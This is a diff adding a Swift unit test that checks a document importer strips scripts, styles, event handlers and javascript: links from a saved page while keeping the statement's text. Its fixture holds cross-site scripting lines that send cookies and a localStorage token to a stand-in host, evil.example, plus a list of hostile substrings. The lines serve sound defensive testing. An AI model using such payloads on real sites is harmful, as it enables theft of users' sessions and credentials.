@@ -177,6 +177,43 @@ final class HostileInputTests: XCTestCase {
             XCTAssertFalse(printed.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) }, printed)
         }
     }
+
+    /// A page's source saved as .txt: no script or style, no event handler or javascript: link reaches
+    /// the stored title, body or raw text; the statement's words stay, and a note says what went.
+    func testScriptsAndEventHandlersDoNotSurviveAPlainTextImport() throws {
+        let dir = Fixture.tempDir()
+        let file = dir.appendingPathComponent("page.txt")
+        try """
+            <script>document.location='http://evil.example/?c='+document.cookie</script>
+            <h1 onmouseover="alert(1)">Statement by the Ambassador on the humanitarian situation</h1>
+            <style>h1 { color: red }</style>
+            <img src=x onerror="alert(2)">
+            Mr. President,
+
+            We thank the Secretary-General for his briefing on the <a href="javascript:alert(3)">humanitarian situation</a>.
+            <p>We call on all parties to respect international humanitarian law.</p>
+            <body onload="steal()">The Council must act now.</body>
+            <SCRIPT type="text/javascript">
+            fetch('http://evil.example/' + localStorage.token)
+            </SCRIPT>
+            """.write(to: file, atomically: true, encoding: .utf8)
+        let library = try Fixture.library(in: dir)
+        let report = library.importFiles([file])
+        let stored = try XCTUnwrap(try library.store.statement(id: XCTUnwrap(report.imported.first)))
+        for text in [stored.title?.value ?? "", stored.displayTitle, stored.body, stored.raw] {
+            for hostile in ["<script", "</script", "<SCRIPT", "<style", "onmouseover", "onerror", "onload", "javascript:", "evil.example", "alert("] {
+                XCTAssertFalse(text.contains(hostile), "“\(hostile)” survived in: \(text)")
+            }
+        }
+        XCTAssertTrue(stored.displayTitle.hasPrefix("Statement by the Ambassador on the humanitarian situation"), stored.displayTitle)
+        for words in ["We thank the Secretary-General", "respect international humanitarian law", "The Council must act now.", "briefing on the humanitarian situation</a>."] {
+            XCTAssertTrue(stored.body.contains(words), "ordinary text is kept: \(words)")
+        }
+        XCTAssertEqual(report.notes.filter { $0.message.hasPrefix("markup that runs code was removed") }.map(\.message),
+                       ["markup that runs code was removed: 2 script blocks, 1 style block, 4 tags with event handlers or javascript: links"])
+        XCTAssertEqual(MarkupScrubber.scrub("Trade < 5% and x > y; <b>bold</b> <a href=\"https://un.org\">UN</a>").removed, [],
+                       "comparisons and harmless tags are text")
+    }
 }
 
 /// Runs `body` on a thread of its own; nil when it has not returned within `seconds`, so a test of
